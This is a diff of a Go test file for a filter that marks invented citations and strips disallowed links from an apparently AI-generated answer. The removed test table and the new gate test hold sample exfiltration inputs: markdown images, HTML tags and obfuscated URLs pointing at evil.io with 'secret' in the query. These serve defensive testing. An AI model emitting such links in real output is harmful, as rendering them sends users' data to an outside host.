@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"panther/pkg/gate"
 	"panther/pkg/knowledge"
 )
 
@@ -16,70 +17,25 @@ func sources() *Sources {
 	return s
 }
 
-// stream writes s in pieces of n bytes and returns what was shown.
-func stream(g *Guard, s string, n int) string {
-	var out string
-	for len(s) > n {
-		out += g.Write(s[:n])
-		s = s[n:]
-	}
-	return out + g.Write(s) + g.Close()
-}
-
-func TestGuard(t *testing.T) {
-	t.Parallel()
-	for name, tc := range map[string]struct{ in, want string }{
-		"plain":              {"Hello there, [friend].", "Hello there, [friend]."},
-		"cited":              {"True [1][2], and so [2].", "True [1][2], and so [2]."},
-		"invented":           {"False [3].", "False [3: no such source]."},
-		"zero":               {"False [0]", "False [0: no such source]"},
-		"code":               {"Use `x = [404]` and a[7]:\n```\n[8080]\n```\nsee [9]", "Use `x = [404]` and a[7]:\n```\n[8080]\n```\nsee [9: no such source]"},
-		"own link":           {"Read [more](https://docs.test.io/a#x), or https://docs.test.io/more?x=1.", "Read [more](https://docs.test.io/a#x), or https://docs.test.io/more?x=1."},
-		"own link in bold":   {"**https://docs.test.io/b**", "**https://docs.test.io/b**"},
-		"image":              {"![x](https://evil.io/p?q=secret)", "[x](link-removed)"},
-		"extended own link":  {"https://docs.test.io/a?leak=secret", "link-removed"},
-		"link":               {"[click](http://evil.io/secret) me", "[click](link-removed) me"},
-		"schemeless":         {"![x](//evil.io/secret)", "[x](link-removed)"},
-		"backslashes":        {`<img src="https:\\evil.io\secret">`, `\<img src="link-removed">`},
-		"no slashes":         {"[x](https:evil.io/secret)", "[x](link-removed)"},
-		"one slash":          {"[x](https:/evil.io/secret)", "[x](link-removed)"},
-		"html":               {"<img src='http://evil.io/secret'>", "\\<img src='link-removed'>"},
-		"upper case":         {"HTTPS://EVIL.IO/secret", "link-removed"},
-		"www":                {"www.evil.io/secret", "link-removed"},
-		"reference":          {"[x]: https://evil.io/secret \"t\"", "[x]: link-removed \"t\""},
-		"entity":             {"![x](https&#58;//evil.io/secret)", "[x](https&#58;link-removed)"},
-		"other scheme":       {"ftp://evil.io/secret and wss://evil.io/s", "link-removed and link-removed"},
-		"user part":          {"http://localhost@evil.io/", "link-removed"},
-		"user of example":    {"https://example.com@evil.io/x", "link-removed"},
-		"host goes on":       {"<http://localhost\".evil.io/secret>", "<link-removed\".evil.io/secret>"},
-		"suffix":             {"http://localhost.evil.io", "link-removed"},
-		"harmless":           {"curl http://localhost:8080/x 'http://127.0.0.1/' \"https://api.example.com/v1\"", "curl http://localhost:8080/x 'http://127.0.0.1/' \"https://api.example.com/v1\""},
-		"connection string":  {"postgres:///agentdb?host=/run/postgresql", "postgres:///agentdb?host=/run/postgresql"},
-		"comment":            {"a // comment and 1//2", "a // comment and 1//2"},
-		"own image":          {"![x](https://docs.test.io/b)", "[x](https://docs.test.io/b)"},
-		"image by reference": {"![1][2] and ![x][y]", "[1][2] and [x][y]"},
-		"own image as HTML":  {"<IMG src=https://docs.test.io/b> <video poster=x>", "\\<IMG src=https://docs.test.io/b> \\<video poster=x>"},
-		"not loaded":         {"`![x](y)` a < b, <name> and Vec<i32>!\n```\nvec![1]; <img>\n```", "`![x](y)` a < b, <name> and Vec<i32>!\n```\nvec![1]; <img>\n```"},
-		"address in sources": {"curl http://10.0.0.1/x", "curl http://10.0.0.1/x"},
-	} {
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			for _, n := range []int{1, 3, 7, 1000} {
-				if got := stream(NewGuard(sources()), tc.in, n); got != tc.want {
-					t.Errorf("in pieces of %d: got %q, want %q", n, got, tc.want)
-				}
-			}
-		})
-	}
-}
-
-func TestGuardCounts(t *testing.T) {
+// What an answer may refer to is what the passages are and hold, and what the
+// user named.
+func TestSourcesTellTheGate(t *testing.T) {
 	t.Parallel()
 	s := sources()
-	g := NewGuard(s)
-	stream(g, "So [2], not [7]. https://evil.io", 2)
-	if len(g.Invented) != 1 || g.Invented[0] != 7 || g.Removed != 1 {
-		t.Errorf("invented %v, removed %d", g.Invented, g.Removed)
+	s.AllowText("Compare https://mine.test.io/x.")
+	s.AllowLinks("See <https://old.test.io/x>, not `https://quoted.test.io/x`.")
+	child := NewSources()
+	child.AllowAs(s, "Read https://mine.test.io/x and https://evil.io/x")
+	g := gate.New(s)
+	got := g.Write("So [2], not [7]: <https://docs.test.io/a#x> <https://docs.test.io/more?x=1> <https://mine.test.io/x> <https://old.test.io/x> <https://quoted.test.io/x>") + g.Close()
+	if want := "So [2], not [7: no such source]: <https://docs.test.io/a#x> <https://docs.test.io/more?x=1> <https://mine.test.io/x> <https://old.test.io/x> link-removed"; got != want {
+		t.Errorf("got %s", got)
+	}
+	if _, ok := child.Address("https://mine.test.io/x"); !ok {
+		t.Error("the task may not link to what the turn may")
+	}
+	if _, ok := child.Address("https://evil.io/x"); ok {
+		t.Error("a task allowed an address by naming it")
 	}
 	if c := s.Citations(); c[0].Cited || !c[1].Cited || c[1].Link != "https://docs.test.io/b" {
 		t.Errorf("citations %+v", c)
@@ -160,20 +116,4 @@ func TestExtract(t *testing.T) {
 	if got := Extract(NewSources(), "x", "No model.", true); !strings.HasPrefix(got, "I don't know from your sources") {
 		t.Errorf("without passages: %s", got)
 	}
-}
-
-// Whatever the pieces, the guard shows the same and no URL that it did not
-// allow.
-func FuzzGuard(f *testing.F) {
-	f.Add("![x](https://evil.io/a) [1] [22] `[3]`", 3)
-	f.Add("http://localhost\"evil", 1)
-	f.Fuzz(func(t *testing.T, s string, n int) {
-		if n < 1 || len(s) > 2000 {
-			return
-		}
-		whole := NewGuard(sources())
-		if a, b := stream(whole, s, len(s)+1), stream(NewGuard(sources()), s, n); a != b {
-			t.Errorf("whole %q, in pieces %q", a, b)
-		}
-	})
 }
